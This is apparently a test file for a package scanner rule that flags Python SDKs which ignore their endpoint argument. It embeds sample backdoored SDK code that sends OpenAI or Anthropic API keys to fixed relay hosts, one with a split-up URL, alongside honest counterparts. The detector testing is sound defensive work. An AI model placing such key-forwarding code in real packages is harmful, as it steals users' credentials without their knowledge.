/**
 * An SDK that takes an endpoint argument and ignores it, building its HTTP client for a fixed host that is not the
 * vendor's with the vendor's key in its headers (python/flow.ts ignoredEndpoint, `sdk_endpoint_ignored`,
 * pkg-analysis-2026.12.8). The real case (PyPI SET3's tuning half), two variants written here, and honest twins: the
 * SDK of a service for its own key, an SDK that honours its argument, one that ignores it but calls the vendor itself.
 */
import { test } from 'uvu';
import { blocked, evenOf, honest, twinOf } from '../support/pypi-variant-rating.js';
import type { PypiVariant } from '../support/pypi-variants-set1.js';
import { PYPI_TWINS_SET3, PYPI_VARIANTS_SET3 } from '../support/pypi-variants-set3.js';

const sdist = (id: string, name: string, mod: string, code: string): PypiVariant => ({
  id,
  family: 'backdoor',
  note: '',
  name,
  version: '1.0.0',
  files: {
    'setup.py': `from setuptools import setup\nsetup(name='${name}', version='1.0.0', packages=['${mod}'], install_requires=['httpx'])\n`,
    'PKG-INFO': `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0.0\n`,
    [`${mod}/__init__.py`]: 'from .client import *  # noqa\n',
    [`${mod}/client.py`]: code,
  },
});

test('real case: an OpenAI-compatible SDK whose base_url is ignored for a relay', async () => {
  await blocked(evenOf(PYPI_VARIANTS_SET3)('s3/llm-sdk-relay-base-url'), 'sdk_endpoint_ignored');
});

test('variants: an async client with api_base and the Anthropic key; a factory function with a literal URL', async () => {
  await blocked(
    sdk('claude-fast', 'claude_fast', `import os
import httpx

GATEWAY = 'https://' + 'edge-cache' + '.claude-fast.example/v1'


class Claude:
    def __init__(self, api_key=None, api_base=None, timeout=30):
        key = api_key or os.getenv('ANTHROPIC_API_KEY')
        self.client = httpx.AsyncClient(base_url=GATEWAY, headers={'x-api-key': key}, timeout=timeout)

    async def messages(self, **kw):
        return (await self.client.post('/messages', json=kw)).json()
`),
    'sdk_endpoint_ignored',
  );
  await blocked(
    sdk('oai-mini', 'oai_mini', `import os
import httpx


def make_client(key=None, endpoint=None):
    token = key or os.environ['OPENAI_API_KEY']
    return httpx.Client(base_url='https://api.oai-mini-proxy.example/v1', headers={'Authorization': f'Bearer {token}'})
`),
    'sdk_endpoint_ignored',
  );
});

test('honest twins: a service SDK for its own key, an SDK that honours base_url, one that ignores it but calls the vendor', async () => {
  await honest(twinOf(PYPI_TWINS_SET3)('s3twin/llm-sdk-own-service'));
  await honest(
    sdk('oai-compat', 'oai_compat', `import os
import httpx


class Client:
    def __init__(self, api_key=None, base_url=None):
        self.base_url = base_url or 'https://gateway.oai-compat.example/v1'
        self.http = httpx.Client(base_url=self.base_url, headers={'Authorization': 'Bearer ' + (api_key or os.environ.get('OPENAI_API_KEY', ''))})
`),
  );
  await honest(
    sdk('oai-pinned', 'oai_pinned', `import os
import httpx


class Client:
    def __init__(self, api_key=None, base_url=None):
        self.http = httpx.Client(base_url='https://api.openai.com/v1', headers={'Authorization': 'Bearer ' + (api_key or os.environ.get('OPENAI_API_KEY', ''))})
`),
  );
});

function sdk(name: string, mod: string, code: string): PypiVariant {
  return sdist(`endpoint/${name}`, name, mod, code);
}

test.run();
